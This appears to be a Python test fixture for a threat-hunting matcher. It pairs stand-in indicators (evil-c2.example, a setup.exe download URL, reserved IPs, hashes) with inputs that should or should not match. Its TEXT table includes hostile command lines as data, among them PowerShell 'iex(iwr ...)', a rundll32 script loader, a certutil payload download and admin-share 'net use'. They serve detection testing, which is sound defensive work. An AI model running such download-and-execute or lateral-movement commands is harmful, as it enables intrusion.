"""What a column of each sort can say, and which hunt must find it: {hunt: (match, indicator)}; an empty one is a trap.

Written from what the columns are documented to hold, so that a looser predicate takes a trap and a stricter one misses a row.
"""

HUNTS = {
    "ipv4": ["203.0.113[.]7"],
    "ipv6": ["2001:db8:85a3::7"],
    "cidr": ["198.51.100.0/24", "2001:db8:c::/48"],
    "range": ["192.0.2.5-192.0.2.9"],
    "domain": ["evil-c2[.]example"],
    "url": ["hxxps://files[.]drop[.]example/u/47/setup.exe?k=9f"],
    "email": ["mule@evil-c2[.]example"],
    "sha256": ["9f2b6c1d07a4e85b3f6d20c9e7a81f4450bb1d93c2e6f7a80d5c4b39128e6f01"],
    "sha1": ["da39a3ee5e6b4b0d3255bfef95601890afd80709"],
    "md5": ["44b02f8cd2064e1a98596aa06b80c346"],
}
V4 = {"ipv4": ("address", "203.0.113.7")}
V6 = {"ipv6": ("address", "2001:db8:85a3::7")}
NET = {"cidr": ("address", "198.51.100.0/24")}
NET6 = {"cidr": ("address", "2001:db8:c::/48")}
RANGE = {"range": ("address", "192.0.2.5-192.0.2.9")}
DOMAIN = {"domain": ("host", "evil-c2.example")}
URL = {"url": ("url", "files.drop.example/u/47/setup.exe")}
URL_HOST = {"url": ("host", "files.drop.example")}
MAIL = {"email": ("email", "mule@evil-c2.example")}

ADDRESS = [
    ("203.0.113.7", V4), ("::ffff:203.0.113.7", V4), ("203.0.113.70", {}), ("10.203.0.113", {}), ("20.203.0.113", {}),
    ("2001:db8:85a3::7", V6), ("2001:0DB8:85A3:0000:0000:0000:0000:0007", V6), ("2001:db8:85a3::70", {}),
    ("198.51.100.200", NET), ("::ffff:198.51.100.1", NET), ("198.51.101.1", {}), ("2001:db8:c:1::5", NET6), ("2001:db8:d::5", {}),
    ("192.0.2.5", RANGE), ("192.0.2.9", RANGE), ("192.0.2.10", {}), ("", {}), ("unknown", {}),
]
PORT = ADDRESS + [("203.0.113.7:443", V4), ("[2001:db8:85a3::7]:50123", V6), ("198.51.100.200:8080", NET), ("203.0.113.70:7", {})]
HOST = [
    ("evil-c2.example", DOMAIN), ("EVIL-C2.Example.", DOMAIN), ("cdn.login.evil-c2.example", DOMAIN), ("notevil-c2.example", {}),
    ("my-evil-c2.example", {}), ("evil-c2.example.org", {}), ("evil_c2.example", {}), ("x_evil-c2.example", {}),
    ("files.drop.example", URL_HOST), ("sub.files.drop.example", {}), ("drop.example", {}),
]
WEB = HOST + [
    ("http://evil-c2.example/a", DOMAIN), ("https://user:pw@login.evil-c2.example:8443/x?y=1", DOMAIN), ("HTTPS://EVIL-C2.EXAMPLE", DOMAIN),
    ("evil-c2.example:443", DOMAIN), ("https%3A%2F%2Fevil-c2.example%2Fx", DOMAIN), ("https://google.com@evil-c2.example/", DOMAIN),
    ("https://evil-c2.example@good.example/", {}), ("https://good.example/?u=https://evil-c2.example/", {}),
    ("https://good.example/evil-c2.example/x", {}), ("https://good.example/#evil-c2.example", {}), ("https%3A%2F%2Fgood.example%2Fevil-c2.example", {}),
    ("https://files.drop.example/u/47/setup.exe", URL), ("http://FILES.drop.example:8080/u/47/setup.exe?k=other", URL),
    ("https%3A%2F%2Ffiles.drop.example%2Fu%2F47%2Fsetup.exe", URL), ("https://files.drop.example/u/47/setup.exe.bak", {}),
    ("https://files.drop.example/U/47/setup.exe", {}), ("https://files.drop.example/", {}), ("https://x.example/files.drop.example/u/47/setup.exe", {}),
    ("http://203.0.113.7:8080/x", V4), ("203.0.113.7", V4), ("http://203.0.113.70/", {}), ("https://good.example/?ip=203.0.113.7", {}),
    ("203.0.113.7.sslip.example", {}), ("http://[2001:db8:85a3::7]:8080/x", V6), ("http://198.51.100.9/", NET), ("192.0.2.7:80", RANGE),
]
TEXT = [
    ('curl -o a "https://u@login.evil-c2.example:8443/x"', DOMAIN), ("nslookup evil-c2.example 8.8.8.8", DOMAIN), ("agent --host=EVIL-C2.example", DOMAIN),
    ("iex(iwr 'evil-c2.example')", DOMAIN), ("ping evil-c2.example.", DOMAIN), ("ssh root@evil-c2.example", DOMAIN), ("net use \\\\evil-c2.example\\share", DOMAIN),
    ('rundll32 javascript:"\\..\\x";GetObject("script:https://evil-c2.example/x")', DOMAIN),
    ("ping notevil-c2.example", {}), ("ping my-evil-c2.example", {}), ("ping evil-c2.example.org", {}), ("type C:\\temp\\evil-c2.example.txt", {}),
    ("curl https://good.example/?u=http://evil-c2.example/", {}), ("curl https://good.example/evil-c2.example/x", {}), ("curl https://evil-c2.example@good.example/", {}),
    ("echo x_evil-c2.example", {}),
    ("certutil -f https://files.drop.example/u/47/setup.exe a.exe", URL), ("curl FILES.drop.example:8443/u/47/setup.exe?k=1", URL),
    ("ping files.drop.example", URL_HOST), ("curl https://files.drop.example/u/47/setup.exe.bak", {}), ("curl https://files.drop.example/other", {}),
    ("curl https://files.drop.example/U/47/setup.exe", {}), ("curl https://good.example/?https://files.drop.example/u/47/setup.exe", {}),
    ("ping 203.0.113.7", V4), ("net use \\\\203.0.113.7\\c$", V4), ("curl http://203.0.113.7:8080/", V4), ("ping 203.0.113.70", {}), ("ping 10.203.0.113.7", {}),
    ("curl https://good.example/?ip=203.0.113.7", {}), ("SRC=198.51.100.9 DST=10.0.0.1", NET), ("ping -6 2001:DB8:85A3:0::7", V6), ("deny 192.0.2.6/443 -> 10.0.0.1", RANGE),
    ("ping 198.51.101.9", {}), ("conn outside:198.51.100.9/443 to inside:10.0.0.1", NET), ("198.51.100.9:443->10.0.0.1:1", NET), ("ping 198.51.100.9.sslip.example", {}),
    ("curl https://good.example/?ip=198.51.100.9", {}), ("curl http://[2001:db8:c:1::5]:80/", NET6),
]
LIST = [
    ("203.0.113.7", V4), ("10.0.0.1,203.0.113.7", V4), ("203.0.113.70,10.0.0.1", {}), ("10.0.0.1,198.51.100.9,198.51.100.10", NET), ("10.0.0.1,2001:DB8:85A3::7", V6),
    ("192.0.2.7", RANGE), ("198.51.101.1,192.0.2.10", {}),
]
INSPECTED = [
    ({"ActionType": "DnsConnectionInspected", "value": {"direction": "Out", "query": "cdn.evil-c2.example", "answers": "[\"10.0.0.1\"]"}}, DOMAIN),
    ({"ActionType": "SslConnectionInspected", "value": {"direction": "Out", "server_name": "evil-c2.example", "established": "true"}}, DOMAIN),
    ({"ActionType": "HttpConnectionInspected", "value": {"host": "evil-c2.example", "uri": "/a", "method": "GET"}}, DOMAIN),
    ({"ActionType": "HttpConnectionInspected", "value": {"host": "files.drop.example", "uri": "/u/47/setup.exe?x", "method": "GET"}}, URL),
    ({"ActionType": "SslConnectionInspected", "value": {"server_name": "files.drop.example"}}, URL_HOST),
    ({"ActionType": "DnsConnectionInspected", "value": {"query": "cdn.good.example", "answers": "[\"203.0.113.7\",\"10.0.0.1\"]"}}, V4),
    ({"ActionType": "DnsConnectionInspected", "value": {"query": "cdn.good.example", "answers": "[\"2001:db8:85a3::7\"]"}}, V6),
    ({"ActionType": "DnsConnectionInspected", "value": {"query": "cdn.good.example", "answers": "[\"198.51.100.9\"]"}}, NET),
    ({"ActionType": "HttpConnectionInspected", "value": {"host": "good.example", "uri": "/?u=evil-c2.example", "method": "GET"}}, {}),
    ({"ActionType": "DnsConnectionInspected", "value": {"query": "notevil-c2.example", "answers": "[\"203.0.113.70\"]"}}, {}),
    ({"ActionType": "ConnectionSuccess", "value": {"note": "evil-c2.example 203.0.113.7 198.51.100.9"}}, {}),
]
RESOLVED = [
    ({"ActionType": "DnsQueryResponse", "value": {"DnsQueryString": "evil-c2.example", "DnsQueryResult": "[{\"Result\":\"10.0.0.1\"}]"}}, DOMAIN),
    ({"ActionType": "DnsQueryResponse", "value": {"DnsQueryString": "files.drop.example", "DnsQueryResult": "[]"}}, URL_HOST),
    ({"ActionType": "DnsQueryResponse", "value": {"DnsQueryString": "good.example", "DnsQueryResult": "[{\"Result\":\"203.0.113.7\",\"DnsQueryType\":\"A\"}]"}}, V4),
    ({"ActionType": "DnsQueryResponse", "value": {"DnsQueryString": "good.example", "DnsQueryResult": "[{\"Result\":\"198.51.100.9\"}]"}}, NET),
    ({"ActionType": "DnsQueryResponse", "value": {"DnsQueryString": "my-evil-c2.example", "DnsQueryResult": "[{\"Result\":\"203.0.113.70\"}]"}}, {}),
    ({"ActionType": "PowerShellCommand", "value": {"Command": "evil-c2.example 203.0.113.7"}}, {}),
]
MAILBOX = [("Mule@Evil-C2.example", MAIL), ("mule@evil-c2.example", MAIL), ("xmule@evil-c2.example", {}), ("mule@evil-c2.example.org", {}), ("mule@sub.evil-c2.example", {}), ("", {})]


def digest(kind):
    value = HUNTS[kind][0]
    return [(value, {kind: ("hash", value)}), (value.upper(), {kind: ("hash", value)}), (value[:-1] + "0", {}), ("", {})]


ANY_HASH = [row for kind in ("sha256", "sha1", "md5") for row in digest(kind)] + [
    ("0x" + HUNTS["sha256"][0].upper(), {"sha256": ("hash", HUNTS["sha256"][0])}),
    (HUNTS["sha256"][0] + HUNTS["sha256"][0], {}),
]
CHAIN = [
    ('["https://good.example/","https://login.evil-c2.example/x"]', DOMAIN), ('["https://files.drop.example/u/47/setup.exe"]', URL),
    ('["https://good.example/?u=https://evil-c2.example/"]', {}), ('["https://notevil-c2.example/"]', {}),
]
BATTERY = {
    "address": ADDRESS, "port": PORT, "host": HOST, "web": WEB, "text": TEXT, "list": LIST, "inspected": INSPECTED, "resolved": RESOLVED,
    "mail": MAILBOX, "sha256": digest("sha256"), "sha1": digest("sha1"), "md5": digest("md5"), "anyhash": ANY_HASH, "chain": CHAIN,
}
